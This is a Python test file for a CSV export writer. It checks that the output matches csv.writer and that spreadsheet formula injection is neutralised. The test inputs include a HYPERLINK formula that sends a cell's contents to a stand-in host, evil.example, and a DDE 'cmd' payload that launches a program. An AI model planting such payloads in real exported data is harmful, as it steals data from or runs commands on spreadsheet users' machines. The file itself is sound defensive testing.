"""The export's CSV writer against csv.writer, for any text (no database)."""

import csv
import io
import re

from hypothesis import given
from hypothesis import strategies as st

from undersigned.api.exports import COLUMNS, Row, csv_chunks, spreadsheet_row
from undersigned.core.spreadsheet import spreadsheet_cell

# Plain text, and text drawn mostly from the characters csv.writer and
# spreadsheets treat apart.
field = st.text() | st.text(alphabet=st.sampled_from(",\"\r\n \t\x00'ab;Я=+-@"), max_size=8)
row = st.tuples(st.integers(min_value=0), field, field, field, field, field, field)


def written_by_csv(rows: list[Row]) -> str:
    out = io.StringIO(newline="")
    writer = csv.writer(out)
    writer.writerow(COLUMNS)
    writer.writerows(spreadsheet_row(row) for row in rows)
    return out.getvalue()


@given(st.lists(st.lists(row, max_size=5), max_size=5))
def test_the_csv_is_what_csv_writer_writes(batches: list[list[Row]]) -> None:
    chunks = list(csv_chunks(batches))
    assert all(chunks)
    assert "".join(chunks) == written_by_csv([r for rows in batches for r in rows])


def test_awkward_rows_are_quoted_as_csv_writer_quotes_them() -> None:
    rows: list[Row] = [
        (1, "2025-01-01T00:00:00Z", "Plain Name", "", "", "", "ab" * 32),
        (2, "t", 'Anna "Annie", Belova', "role, with comma", "", "", "x"),
        (3, "t", "two\nlines", "carriage\rreturn", "", "", "x"),
        (4, "t", "  spaced  ", "'single'", "semi;colon", "tab\there", "x"),
        (5, "t", "", "", "", "", ""),
        (6, "t", "Вера Орлова", "депутат", "Якутск", "Саха (Якутия)", "x"),
        (7, "t", "=HYPERLINK(\"http://x\";\"y\")", "+1", "-1", "@SUM(A1)", "x"),
        (8, "t", "Anna; =1+1", "a\t-b", "'quoted", "'t Hooft; 'x'", "x"),
    ]
    assert "".join(csv_chunks([rows[:2], [], rows[2:]])) == written_by_csv(rows)


# What a spreadsheet runs as a formula: a cell starting with one of these, or,
# where it splits lines at ";" or tabs, a part of a cell that does.
FORMULA = "=+-@\t\r"


def read_back(cell: str) -> str:
    """docs/log-format.md's rule for getting a name back from the CSV: take off a
    leading quote before one of = + - @ tab CR, then the quote after each ; or tab
    (and spaces or double quotes) that stands before one of them."""
    if re.match(r"'[=+\-@\t\r]", cell):
        cell = cell[1:]
    return re.sub(r"([;\t][ \"]*)'(?=[=+\-@\t\r])", r"\1", cell)


@given(field)
def test_no_cell_starts_a_formula_and_the_text_comes_back(text: str) -> None:
    cell = spreadsheet_cell(text)
    assert not cell.startswith(tuple(FORMULA))
    for part in re.split(r"[;\t]", cell)[1:]:
        assert not part.lstrip(" \"").startswith(tuple("=+-@\r"))
    if "'" not in text:  # a quote of the signer's own before a formula reads back without it
        assert read_back(cell) == text
    if not re.search(r"^[=+\-@\t\r]|[;\t]", text):
        assert cell == text  # a name with none of them is written as it is


def test_the_formulas_of_the_review_are_text_in_the_csv() -> None:
    rows: list[Row] = [(1, "t", '=HYPERLINK("http://evil.example/?"&A1;"Click")', "", "", "", "x")]
    written = "".join(csv_chunks([rows]))
    (got,) = list(csv.DictReader(io.StringIO(written)))
    assert got["name"] == '\'=HYPERLINK("http://evil.example/?"&A1;"Click")'
    assert spreadsheet_cell("Anna Belova") == "Anna Belova"
    assert spreadsheet_cell("Kolpino; =cmd|' /C calc'!A0") == "Kolpino; '=cmd|' /C calc'!A0"
